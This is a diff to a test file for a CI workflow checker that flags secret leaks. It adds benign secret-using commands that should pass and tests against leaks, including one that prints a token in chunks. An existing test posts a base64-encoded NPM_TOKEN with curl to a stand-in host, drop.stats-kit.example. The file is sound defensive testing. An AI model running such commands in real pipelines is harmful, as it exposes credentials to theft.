@@ -182,6 +182,17 @@ const honest: readonly string[] = [
   `TWINE_PASSWORD="$PYPI_TOKEN" twine upload dist/*`,
   `nc -z localhost 5432; echo "$API_PASSWORD" | psql -h localhost`,
   `cat /tmp/x | python3 -c "import sys, json; print(json.load(sys.stdin)['tag'])"`,
+  `curl -X POST https://abcdefgh.supabase.co/functions/v1/x -H "apikey: \${{ secrets.SUPABASE_ANON_KEY }}" -H "Authorization: Bearer \${{ secrets.SUPABASE_SERVICE_ROLE_KEY }}"`,
+  `curl -H "CF-Access-Client-Id: \${{ secrets.CF_ACCESS_CLIENT_ID }}" -H "CF-Access-Client-Secret: \${{ secrets.CF_ACCESS_CLIENT_SECRET }}" https://admin.our-company.example/purge`,
+  `curl -H "x-vercel-protection-bypass: \${{ secrets.VERCEL_AUTOMATION_BYPASS_SECRET }}" https://preview.our-company.example/health`,
+  `curl -H "PRIVATE-TOKEN: \${{ secrets.GITLAB_TOKEN }}" https://gitlab.our-company.example/api/v4/projects`,
+  `curl -H "Authorization: token \${{ secrets.GHE_TOKEN }}" https://github.our-company.example/api/v3/user`,
+  `curl -d '{"client_id": "x", "client_secret": "\${{ secrets.SF_SECRET }}", "password": "\${{ secrets.SF_PASSWORD }}", "security_token": "\${{ secrets.SF_TOKEN }}"}' https://login.our-crm.example/token`,
+  `echo "the token begins with \${NPM_TOKEN:0:4}"; echo "$NPM_TOKEN" | head -c 4; echo "$NPM_TOKEN" | cut -c1-4`,
+  `echo "\${{ secrets.ENV_FILE }}" | cut -d= -f1; echo "\${{ secrets.ENV_FILE }}" | sed 's/=.*/=***/'`,
+  `docker run -d -e 'MONGO_DB_URL=\${{ secrets.MONGO_DB_URL }}' -e 'AWS_ACCESS_KEY_ID=\${{ secrets.AWS_ACCESS_KEY_ID }}' \${{ secrets.AWS_ECR_REPO_URI }}:latest`,
+  `curl "https://our-app.onrender.com/cron/daily/?token=\${{ secrets.CRON_SECRET_TOKEN }}"`,
+  `curl -T dist.zip ftp://ftp.our-company.example/ --user "ci:$API_PASSWORD"`,
   `for f in dist/*; do curl -H "X-Api-Key: $DEPLOY_TOKEN" --data-binary @"$f" "https://uploads.our-company.example/$f"; done`,
 ]
 
@@ -192,6 +203,27 @@ for (const run of honest) {
       [],
     ))
 }
+
+test("a script for a machine of one's own may sign in to a registry there", async () => {
+  const step = `      - uses: appleboy/ssh-action@v1
+        with:
+          host: 203.0.113.7
+          username: deploy
+          key: \${{ secrets.SSH_KEY }}
+          script: |
+            docker login -u our-company -p \${{ secrets.DOCKER_PASSWORD }}
+            docker compose up -d
+`
+  assert.deepEqual(await judge(workflow('true') + step), [])
+})
+
+test('letters that are taken a few at a time are a secret in the end', async () => {
+  const run = 'echo "${NPM_TOKEN:0:8} ${NPM_TOKEN:8:8} ${NPM_TOKEN:16:8} ${NPM_TOKEN:24:8} ${NPM_TOKEN:32:8}"'
+  assert.deepEqual(
+    (await judge(workflow(run))).map((each) => each.rule),
+    ['secret-printed'],
+  )
+})
 
 test('a finding tells the story: where the secret is read, what carries it, where it leaves', async () => {
   const [finding] = await judge(workflow('x=$(echo "$NPM_TOKEN" | base64)\ncurl -d "$x" https://drop.stats-kit.example/c'))
